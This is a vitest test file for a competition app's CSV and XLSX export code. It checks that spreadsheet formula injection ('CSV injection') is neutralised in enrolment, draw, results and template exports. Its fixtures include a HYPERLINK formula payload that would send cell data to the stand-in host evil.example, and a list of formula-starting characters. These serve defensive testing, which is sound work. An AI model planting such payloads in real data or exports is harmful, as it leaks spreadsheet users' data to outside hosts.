// Formulas in exports (OWASP "CSV injection"): a name such as =HYPERLINK("https://evil.example/?x="&D3,…)
// is accepted by the registry and ends up in every export. The one CSV writer (lib/core/exports.ts toCsv)
// writes any text cell that a spreadsheet would run as a formula with a leading single quote; every CSV
// export (enrolments, a poule's draw and results, the import templates) goes through it. The XLSX
// writers (lib/core/exports.ts xlsxBlob, lib/core/workbook.ts workbookBlob) write text cells as strings, never
// formulas: the same payload reads back as the text it is.
import { inflateRawSync } from 'node:zlib';
import { beforeAll, describe, expect, it } from 'vitest';
import readXlsxFile from 'read-excel-file/node';
import { i18n } from '@/lib/core/i18n';
import { bytesOf } from '@/test/blobs';
import { enrolmentsTable, type ExportEnrolment } from '@/features/desk/export';
import { drawTable, resultsTable } from '@/features/board/components/tables';
import type { SnapshotEntry, SnapshotPoule } from '@/lib/board/snapshot';
import { toCsv, xlsxBlob, type Cell, type Table } from '@/lib/core/exports';
import { workbookBlob } from '@/lib/core/workbook';

const PAYLOAD = '=HYPERLINK("https://evil.example/?x="&D3,"Receipt")';
/** Every start OWASP lists (and their full-width forms), each with a harmless tail. */
const STARTS = ['=1+1', '+1+1', '-1+1', '@SUM(A1)', '\t=1+1', '\r=1+1', '＝1+1', '＋1', '－1', '＠SUM(A1)'];

/** The cells of a CSV as a spreadsheet program splits them (RFC 4180 quoting). */
function csvCells(csv: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < csv.length; i++) {
    const c = csv[i]!;
    if (quoted && c === '"' && csv[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (c === '"') {
      quoted = !quoted;
    } else if (!quoted && c === ',') {
      row.push(cell);
      cell = '';
    } else if (!quoted && c === '\r' && csv[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else {
      cell += c;
    }
  }
  return rows;
}

/** Whether a spreadsheet would run the cell as a formula. */
const runs = (cell: string) => /^[=+\-@\t\r＝＋－＠]/.test(cell);

/** Every cell of the CSV is text a spreadsheet shows; the payloads are there, quoted, otherwise as written. */
function expectInert(table: Table, payloads: string[]) {
  const cells = csvCells(toCsv(table)).flat();
  expect(cells.filter(runs)).toEqual([]);
  for (const p of payloads) expect(cells.some((c) => c === `'${p}` || c.includes(p)), p).toBe(true);
}

beforeAll(async () => {
  await i18n.loadNamespaces(['desk', 'results', 'common']);
});

describe('the CSV writer', () => {
  it('writes a cell that would start a formula with a leading quote and keeps the rest of its text', () => {
    const table: Table = { name: 'x', header: ['Name', '@Header'], rows: [[PAYLOAD, -1], ...STARTS.map((s): Cell[] => [s, 2.5])] };
    const cells = csvCells(toCsv(table));
    expect(cells[0]).toEqual(['Name', "'@Header"]);
    expect(cells[1]).toEqual([`'${PAYLOAD}`, '-1']);
    expect(cells.slice(2).map((r) => r[0])).toEqual(STARTS.map((s) => `'${s}`));
    // Harmless text is written as before, a dash inside a name too.
    expect(toCsv({ name: 'x', header: ['a'], rows: [['Anna Rossi – Luca'], ['1-2'], [' =1']] })).toBe("a\r\nAnna Rossi – Luca\r\n1-2\r\n =1\r\n");
  });
});

describe('every CSV export with a formula for a name', () => {
  it('enrolments: couple, tori, uke, clubs, circuit and the export code', () => {
    const rows: ExportEnrolment[] = [{ toriName: PAYLOAD, ukeName: '+39 333', kata: 'nage-no-kata', circuit: 'c1', clubs: '@club', status: 'in_competition', paymentReceived: true, present: false }];
    const table = enrolmentsTable(rows, { competition: { name: 'Cup', exportId: '-CT' }, circuits: new Map([['c1', '=Open']]), t: i18n.getFixedT('en') });
    expectInert(table, [PAYLOAD, '+39 333', '@club', '-CT', '=Open']);
  });

  const entry = (over: Partial<SnapshotEntry>): SnapshotEntry => ({
    id: 'd1', enrolment: 'e1', order: 1, tori: PAYLOAD, uke: '-Uke', clubs: '=club', scored: true, points: 500, rank: 1,
    forgotten: 0, big: 0, medium: 0, small: 1, judgeTotals: [170, 165, 165], ...over,
  });
  const poule: SnapshotPoule = {
    id: 'p1', circuit: 'c1', circuitName: '@Open', kata: 'nage-no-kata', name: 'A', phase: 'group', judges: 3, seed: 'S',
    entries: [entry({}), entry({ id: 'd2', order: 2, tori: '\tTab', scored: false, absence: 'withdrawn', rank: 0 })],
  };
  const clubs = (c: string) => c;

  it("a poule's draw: tori, uke, clubs and the poule's label", () => {
    expectInert(drawTable(i18n.getFixedT('en'), poule, '=Label', clubs), [PAYLOAD, '-Uke', '=club']);
  });

  it("a poule's results: tori, uke, clubs", () => {
    expectInert(resultsTable(i18n.getFixedT('it'), poule, '=Label', clubs), [PAYLOAD, '-Uke', '=club', '\tTab']);
  });

  it('the import templates (header only, its labels)', () => {
    // ImportDialog's template: the labels of the import's columns, written by the same writer.
    expectInert({ name: 'Judges', header: ['Name', PAYLOAD], rows: [] }, [PAYLOAD]);
  });
});

/** The files of a ZIP (an XLSX) by name, from its central directory. */
function unzip(bytes: Buffer): Map<string, string> {
  const files = new Map<string, string>();
  const end = bytes.lastIndexOf(Buffer.from([0x50, 0x4b, 0x05, 0x06]));
  let at = bytes.readUInt32LE(end + 16);
  for (let n = bytes.readUInt16LE(end + 10); n > 0; n--) {
    const method = bytes.readUInt16LE(at + 10);
    const size = bytes.readUInt32LE(at + 20);
    const nameLength = bytes.readUInt16LE(at + 28);
    const extra = bytes.readUInt16LE(at + 30);
    const comment = bytes.readUInt16LE(at + 32);
    const local = bytes.readUInt32LE(at + 42);
    const name = bytes.subarray(at + 46, at + 46 + nameLength).toString();
    const start = local + 30 + bytes.readUInt16LE(local + 26) + bytes.readUInt16LE(local + 28);
    const data = bytes.subarray(start, start + size);
    files.set(name, (method === 8 ? inflateRawSync(data) : data).toString());
    at += 46 + nameLength + extra + comment;
  }
  return files;
}

describe('XLSX exports', () => {
  const table: Table = { name: 'Results', header: ['Tori', 'Points'], rows: [[PAYLOAD, 500], ...STARTS.map((s): Cell[] => [s, -1])] };

  for (const [what, blob] of [
    ['one table (xlsxBlob)', () => xlsxBlob(table)],
    ["a competition's workbook (workbookBlob)", () => workbookBlob([table, { ...table, name: 'Marks' }])],
  ] as const) {
    it(`${what}: text cells are plain strings, never formulas, read back as written`, async () => {
      const bytes = await bytesOf(await blob());
      const sheets = [...unzip(bytes)].filter(([name]) => /^xl\/worksheets\/sheet\d+\.xml$/.test(name));
      expect(sheets.length).toBeGreaterThan(0);
      for (const [, xml] of sheets) expect(xml).not.toMatch(/<f[\s>]/);
      for (const sheet of await readXlsxFile(bytes)) {
        // read-excel-file trims the text it reads: the tab and CR starts come back without them.
        expect(sheet.data.slice(1).map((r) => r[0])).toEqual([PAYLOAD, ...STARTS.map((s) => s.trim())]);
        expect(sheet.data[1]![1]).toBe(500);
      }
    });
  }
});
